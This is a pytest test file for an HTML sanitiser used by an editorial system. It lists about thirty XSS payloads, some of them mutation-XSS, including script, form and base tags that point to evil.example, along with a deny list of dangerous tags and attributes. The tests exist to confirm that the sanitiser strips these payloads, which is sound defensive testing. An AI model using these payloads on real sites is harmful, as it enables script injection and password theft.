"""Markup from outside the editors' room."""

import pytest

from editorial.sanitise import sanitise

#: What people have tried to get past filters with; none may leave anything that runs.
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<<script>script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math></p><style><!--</style><img src/onerror=alert(1)>",
    '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<noscript><style></noscript><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    '<a href="javascript:alert(1)">klik</a>',
    '<a href=" java\nscript:alert(1)">klik</a>',
    '<a href="JaVaScRiPt&colon;alert(1)">klik</a>',
    '<a href="vbscript:msgbox(1)">klik</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">klik</a>',
    '<a href="https://example.org" onclick="alert(1)">klik</a>',
    '<p style="background:url(javascript:alert(1))">tekst</p>',
    "<form action=//evil.example><input name=wachtwoord></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<textarea><script>alert(1)</script></textarea>",
    "<select><template><script>alert(1)</script></template></select>",
    "<x onclick=alert(1)>tekst</x>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
]
NEVER = (
    "<script",
    "<svg",
    "<math",
    "<img",
    "<iframe",
    "<object",
    "<embed",
    "<style",
    "<form",
    "<base",
    "<meta",
    "<link",
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_leaves_nothing_that_runs(attack):
    clean = sanitise(f"<p>voor</p>{attack}<p>na</p>").lower()
    assert not [tag for tag in NEVER if tag in clean]
    assert not [part for part in ("onerror=", "onclick=", "onload=", "style=", "srcdoc=") if f" {part}" in clean]
    assert not [address for address in ('href="javascript:', 'href="vbscript:', 'href="data:') if address in clean]


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_is_clean_stays_as_it_is(attack):
    clean = sanitise(attack)
    assert sanitise(clean) == clean


@pytest.mark.parametrize(
    "code", ["<script>var a = 'stiekem';</script>", "<style>p { color: red } /* stiekem */</style>"]
)
def test_code_is_not_shown_as_text(code):
    assert sanitise(f"<p>een {code}twee</p>") == "<p>een twee</p>"


def test_formatting_stays():
    text = "<h2>Kop</h2><p><strong>vet</strong> en <em>schuin</em></p><ul><li>punt</li></ul>"
    assert sanitise(text) == text


def test_elements_that_are_not_allowed_keep_their_text():
    assert sanitise("<div><font color=red>tekst</font></div>") == "tekst"


def test_links_are_marked_as_not_ours():
    assert sanitise('<a href="https://example.org">hier</a>') == (
        '<a href="https://example.org" rel="nofollow noopener">hier</a>'
    )


def test_a_link_cannot_bring_a_mark_or_target_of_its_own():
    clean = sanitise('<a href="/x" rel="follow" target="_blank">hier</a>')
    assert clean == '<a href="/x" rel="nofollow noopener">hier</a>'


def test_signs_that_look_like_markup_stay_readable():
    assert sanitise("3 < 4 & 5 > 4") == "3 &lt; 4 &amp; 5 &gt; 4"
